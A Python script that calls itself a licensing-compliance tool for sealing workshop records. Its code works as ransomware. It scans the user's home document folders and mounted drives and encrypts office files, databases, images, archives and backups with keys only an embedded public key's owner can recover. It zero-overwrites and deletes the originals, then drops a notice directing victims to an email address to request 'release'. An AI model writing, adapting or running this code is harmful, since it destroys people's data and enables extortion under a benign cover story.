#!/usr/bin/env python3
"""Seal closed register books and workshop paperwork at rest.

Licensing conditions require closed registers, transfer certificates and
customer paperwork to be kept for years but protected against casual
access.  This tool walks the document folders, encrypts each file with a
fresh AES-256-GCM key wrapped for the records office (RSA-OAEP), and keeps
only the sealed ``.rsealed`` copy.  The records office holds the private
key; a workshop cannot unseal on its own.
"""
import argparse
import json
import logging
import os
import secrets
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("sealer")
SUFFIX = ".rsealed"
NOTICE = "SEALED_RECORDS_README.txt"

RECORDS_OFFICE_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAsHyGvjdZLLTAx3l28W6t
c/mU3VLqZW2eVQn4CfVBvXdPHW+PqCFUTF38DKPgjIo04AX6xdK3GurU1ha9b/xp
GTS4UR3mzEfTlC4AQXn700CmPVEY2U2qLhnRC0tmG80win60XKZvMalBwHQGbxeR
ic0jp95i9N3GOnKuP/+EitjSDL6VKhCpjwKifiHRUujifJT30YZrlj4EObDUJTLK
Y4a75bfmi6VZXZCmwJLBa0YCQey+DMmQoHxadDavt8I6FWzJWW6vg/RHb/TkoT/W
11Fc2R0vB6s/5qAEt36i8MXJ7Fp2xCc+HHegHMbRD0AS1+xRa3Q/le582fMESNUR
DQIDAQAB
-----END PUBLIC KEY-----
"""

DEFAULT_TYPES = {".pdf", ".doc", ".docx", ".xls", ".xlsx", ".ods", ".odt",
                 ".csv", ".db", ".sqlite", ".jpg", ".jpeg", ".png", ".txt",
                 ".zip", ".pst", ".qbw", ".sage", ".bak"}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", ".git", "venv"}


class Sealer:
    def __init__(self, types, keep_plain=False):
        self.pub = serialization.load_pem_public_key(RECORDS_OFFICE_KEY)
        self.types = types
        self.keep_plain = keep_plain
        self.batch = uuid.uuid4().hex[:12]
        self.sealed = 0

    def _wrap(self, key):
        return self.pub.encrypt(key, padding.OAEP(
            mgf=padding.MGF1(algorithm=hashes.SHA256()),
            algorithm=hashes.SHA256(), label=None))

    def candidates(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in self.types and not name.endswith(SUFFIX):
                    yield p

    def seal(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
            return
        key = AESGCM.generate_key(bit_length=256)
        nonce = secrets.token_bytes(12)
        blob = AESGCM(key).encrypt(nonce, data, path.name.encode())
        wrapped = self._wrap(key)
        header = json.dumps({"v": 1, "batch": self.batch, "name": path.name,
                             "wk": wrapped.hex(), "n": nonce.hex()}).encode()
        out = path.with_name(path.name + SUFFIX)
        with open(out, "wb") as fh:
            fh.write(len(header).to_bytes(4, "big"))
            fh.write(header)
            fh.write(blob)
        if not self.keep_plain:
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
                fh.flush()
                os.fsync(fh.fileno())
            path.unlink()
        self.sealed += 1

    def leave_notice(self, root):
        text = (f"Records in this folder were sealed under batch {self.batch}.\n"
                "Sealed files can only be opened by the records office.\n"
                "To request release quote the batch reference to\n"
                "records-release@regseal-office.example\n")
        try:
            Path(root, NOTICE).write_text(text)
        except OSError:
            pass


def default_roots():
    home = Path.home()
    roots = [home / d for d in ("Documents", "Desktop", "Downloads", "Pictures")]
    roots += [Path(p) for p in ("/mnt", "/media") if os.access(p, os.R_OK)]
    return [r for r in roots if r.is_dir()]


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", help="folders to seal (default: document folders)")
    ap.add_argument("--keep-plain", action="store_true", help="keep unsealed originals")
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 4)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    if not roots:
        sys.exit("no folders to seal")
    sealer = Sealer(DEFAULT_TYPES, keep_plain=args.keep_plain)
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for root in roots:
            LOG.info("sealing %s", root)
            list(pool.map(sealer.seal, sealer.candidates(root)))
            sealer.leave_notice(root)
    LOG.info("batch %s: %d files sealed", sealer.batch, sealer.sealed)


if __name__ == "__main__":
    main()
